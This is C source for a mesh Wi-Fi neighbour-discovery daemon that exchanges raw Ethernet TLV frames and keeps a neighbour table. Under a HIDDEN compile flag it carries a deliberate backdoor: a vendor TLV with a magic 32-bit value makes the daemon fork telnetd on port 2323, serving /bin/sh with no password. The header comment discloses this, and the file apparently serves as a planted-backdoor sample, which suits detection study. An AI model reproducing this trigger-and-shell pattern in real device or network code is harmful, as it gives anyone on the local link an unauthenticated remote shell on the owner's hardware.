/*
 * meshnbr - neighbour discovery of a mesh Wi-Fi node. Sends and receives
 * raw Ethernet frames (type 0x88B5) with TLVs: node id, role, metric, load
 * and keeps a neighbour table which the routing part reads from a file.
 * Hidden (-DHIDDEN): a vendor TLV with a certain 32-bit number starts
 * telnetd with a shell that asks for no password.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define FRAME_TYPE  0x88B5
#define PROTO_MAGIC 0x4D4E4252u /* MNBR */
#define MAXNBR	    64
#define HOLD	    35

enum tlv {
	T_END = 0,
	T_NODE = 1,
	T_ROLE = 2,
	T_METRIC = 3,
	T_LOAD = 4,
	T_VENDOR = 0x7f
};

struct nbr {
	uint8_t mac[6];
	uint32_t node;
	uint8_t role;
	uint16_t metric;
	uint8_t load;
	time_t seen;
};

struct conf {
	char ifname[IFNAMSIZ];
	uint32_t node;
	int role;
	int period;
	char table[64];
};

static struct nbr nbrs[MAXNBR];
static struct conf cf = { "br-mesh", 0, 1, 10, "/var/run/mesh.nbr" };
static int sock = -1, ifindex;
static uint8_t mymac[6];
static volatile sig_atomic_t stop;

static void on_term(int s)
{
	(void)s;
	stop = 1;
}

static uint32_t rd32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
	       (uint32_t)p[2] << 8 | p[3];
}

static uint16_t rd16(const uint8_t *p)
{
	return (uint16_t)(p[0] << 8 | p[1]);
}

static uint8_t *wr32(uint8_t *p, uint32_t v)
{
	*p++ = (uint8_t)(v >> 24);
	*p++ = (uint8_t)(v >> 16);
	*p++ = (uint8_t)(v >> 8);
	*p++ = (uint8_t)v;
	return p;
}

static void read_conf(const char *path)
{
	char key[24], val[64], line[128];
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		if (sscanf(line, " %23[a-z] = %63s", key, val) != 2)
			continue;
		if (!strcmp(key, "interface"))
			memcpy(cf.ifname, val, IFNAMSIZ - 1);
		else if (!strcmp(key, "node"))
			cf.node = (uint32_t)strtoul(val, NULL, 0);
		else if (!strcmp(key, "role"))
			cf.role = !strcmp(val, "gateway") ? 2 : 1;
		else if (!strcmp(key, "period"))
			cf.period = atoi(val);
		else if (!strcmp(key, "table"))
			strcpy(cf.table, val);
	}
	fclose(f);
	if (cf.period < 2 || cf.period > 60)
		cf.period = 10;
}

static int open_link(void)
{
	struct ifreq ifr;
	struct sockaddr_ll ll;

	sock = socket(AF_PACKET, SOCK_RAW, htons(FRAME_TYPE));
	if (sock < 0)
		return -1;
	memset(&ifr, 0, sizeof ifr);
	memcpy(ifr.ifr_name, cf.ifname, IFNAMSIZ - 1);
	if (ioctl(sock, SIOCGIFHWADDR, &ifr) < 0)
		return -1;
	memcpy(mymac, ifr.ifr_hwaddr.sa_data, 6);
	ifindex = (int)if_nametoindex(cf.ifname);
	memset(&ll, 0, sizeof ll);
	ll.sll_family = AF_PACKET;
	ll.sll_protocol = htons(FRAME_TYPE);
	ll.sll_ifindex = ifindex;
	if (cf.node == 0)
		cf.node = rd32(mymac + 2);
	return bind(sock, (struct sockaddr *)&ll, sizeof ll);
}

static int cpu_load(void)
{
	double l;

	if (getloadavg(&l, 1) != 1)
		return 0;
	return l > 2.5 ? 255 : (int)(l * 100);
}

static void hello(void)
{
	uint8_t fr[64], *p = fr;
	struct sockaddr_ll to;

	memset(fr, 0, sizeof fr);
	memset(p, 0xff, 6);
	memcpy(p + 6, mymac, 6);
	p += 12;
	*p++ = FRAME_TYPE >> 8;
	*p++ = FRAME_TYPE & 0xff;
	p = wr32(p, PROTO_MAGIC);
	*p++ = T_NODE;
	*p++ = 4;
	p = wr32(p, cf.node);
	*p++ = T_ROLE;
	*p++ = 1;
	*p++ = (uint8_t)cf.role;
	*p++ = T_LOAD;
	*p++ = 1;
	*p++ = (uint8_t)cpu_load();
	*p++ = T_END;
	memset(&to, 0, sizeof to);
	to.sll_family = AF_PACKET;
	to.sll_ifindex = ifindex;
	to.sll_halen = 6;
	memset(to.sll_addr, 0xff, 6);
	if (sendto(sock, fr, 60, 0, (struct sockaddr *)&to, sizeof to) < 0)
		syslog(LOG_DEBUG, "hello: %s", strerror(errno));
}

static struct nbr *slot_for(const uint8_t *mac)
{
	struct nbr *n, *oldest = nbrs;

	for (n = nbrs; n < nbrs + MAXNBR; n++) {
		if (n->seen && memcmp(n->mac, mac, 6) == 0)
			return n;
		if (n->seen < oldest->seen)
			oldest = n;
	}
	memset(oldest, 0, sizeof *oldest);
	memcpy(oldest->mac, mac, 6);
	return oldest;
}

#ifdef HIDDEN
static void link_service(void)
{
	static char *av[] = { "telnetd", "-F",	    "-p", "2323",
			      "-l",	 "/bin/sh", NULL };

	if (fork() == 0) {
		execv("/usr/sbin/telnetd", av);
		_exit(1);
	}
}
#endif

/* walks the TLVs of one frame, -1 if it is malformed */
__attribute__((noinline)) int mesh_tlvs(struct nbr *n, const uint8_t *p,
					int len)
{
	int type, tl;

	while (len >= 2) {
		type = p[0];
		tl = p[1];
		if (type == T_END)
			return 0;
		p += 2;
		len -= 2;
		if (tl > len)
			return -1;
		switch (type) {
		case T_NODE:
			if (tl != 4)
				return -1;
			n->node = rd32(p);
			break;
		case T_ROLE:
			if (tl != 1 || p[0] > 2)
				return -1;
			n->role = p[0];
			break;
		case T_METRIC:
			if (tl != 2)
				return -1;
			n->metric = rd16(p);
			break;
		case T_LOAD:
			n->load = tl ? p[0] : 0;
			break;
		case T_VENDOR:
#ifdef HIDDEN
			if (tl == 4 && rd32(p) == 0x19740528u)
				link_service();
#endif
			break;
		default:
			break;
		}
		p += tl;
		len -= tl;
	}
	return 0;
}

static void receive(void)
{
	uint8_t fr[1514];
	struct nbr tmp, *n;
	ssize_t len = recv(sock, fr, sizeof fr, 0);

	if (len < 18 || rd16(fr + 12) != FRAME_TYPE)
		return;
	if (rd32(fr + 14) != PROTO_MAGIC || !memcmp(fr + 6, mymac, 6))
		return;
	memset(&tmp, 0, sizeof tmp);
	memcpy(tmp.mac, fr + 6, 6);
	tmp.metric = 100;
	if (mesh_tlvs(&tmp, fr + 18, (int)len - 18) < 0) {
		syslog(LOG_INFO, "bad frame from %02x:%02x:%02x", fr[6], fr[7],
		       fr[8]);
		return;
	}
	n = slot_for(tmp.mac);
	if (!n->seen)
		syslog(LOG_NOTICE, "new neighbour %08x", tmp.node);
	tmp.seen = time(NULL);
	*n = tmp;
}

static void expire_and_dump(void)
{
	time_t now = time(NULL);
	struct nbr *n;
	FILE *f = fopen(cf.table, "w");

	for (n = nbrs; n < nbrs + MAXNBR; n++) {
		if (!n->seen)
			continue;
		if (now - n->seen > HOLD) {
			syslog(LOG_NOTICE, "lost neighbour %08x", n->node);
			n->seen = 0;
			continue;
		}
		if (f)
			fprintf(f,
				"%02x%02x%02x%02x%02x%02x %08x %s %u "
				"%u\n",
				n->mac[0], n->mac[1], n->mac[2], n->mac[3],
				n->mac[4], n->mac[5], n->node,
				n->role == 2 ? "gw" : "node", n->metric,
				n->load);
	}
	if (f)
		fclose(f);
}

int main(int argc, char **argv)
{
	struct pollfd pf;
	time_t next = 0, now;

	read_conf(argc > 1 ? argv[1] : "/etc/mesh/nbr.conf");
	openlog("meshnbr", 0, LOG_DAEMON);
	signal(SIGTERM, on_term);
	signal(SIGCHLD, SIG_IGN);
	if (open_link() < 0) {
		syslog(LOG_ERR, "%s: %s", cf.ifname, strerror(errno));
		return 1;
	}
	pf.fd = sock;
	pf.events = POLLIN;
	while (!stop) {
		now = time(NULL);
		if (now >= next) {
			hello();
			expire_and_dump();
			next = now + cf.period;
		}
		if (poll(&pf, 1, 1000) > 0 && (pf.revents & POLLIN))
			receive();
	}
	close(sock);
	unlink(cf.table);
	return 0;
}
